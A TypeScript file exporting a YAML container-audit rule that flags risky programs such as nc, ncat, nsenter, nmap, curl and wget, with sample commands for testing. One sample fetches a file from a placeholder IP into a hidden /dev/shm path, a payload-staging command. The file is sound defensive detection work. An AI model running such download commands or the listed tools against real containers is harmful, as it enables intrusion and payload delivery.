/**
 * The only rule that Alibaba Cloud documents: the programs of the alert example "risky program run in a container" in the
 * Chinese page "use-container-auditing" (container-auditing.md §1.2), all of them and no other, weighed as there (6,
 * medium). The report's list of high-risk operations presumably is the same set.
 */
export const vendorRules = `rules:
  - id: vendor-risky-program
    title:
      en: Risky program
      zh: 风险程序
    reason:
      en: The program is on the vendor's list of programs that are risky inside a container.
      zh: 该程序在厂商的容器内风险程序列表中。
    severity: medium
    mitre: [T1609]
    match:
      programs:
        - rm
        - sudo
        - su
        - nsenter
        - curl
        - wget
        - yum
        - apt-get
        - apt
        - apk
        - dpkg
        - nc
        - ncat
        - ssh
        - scp
        - nmap
        - docker
        - crictl
        - nerdctl
        - podman
        - kubectl
        - helm
        - mysql
        - redis
        - psql
        - redis-cli
        - pip
        - npm
        - gem
    samples:
      - { command: rm a.txt, matches: true }
      - { command: curl -fsSL http://198.51.100.23/d/kw -o /dev/shm/.kw, matches: true }
      - { command: psql -U app -c "select 1", matches: true }
      - { command: touch a.txt, matches: false }
      - { command: curlie http://198.51.100.23/, matches: false }
      - { command: grep curl history.txt, matches: false }
`;
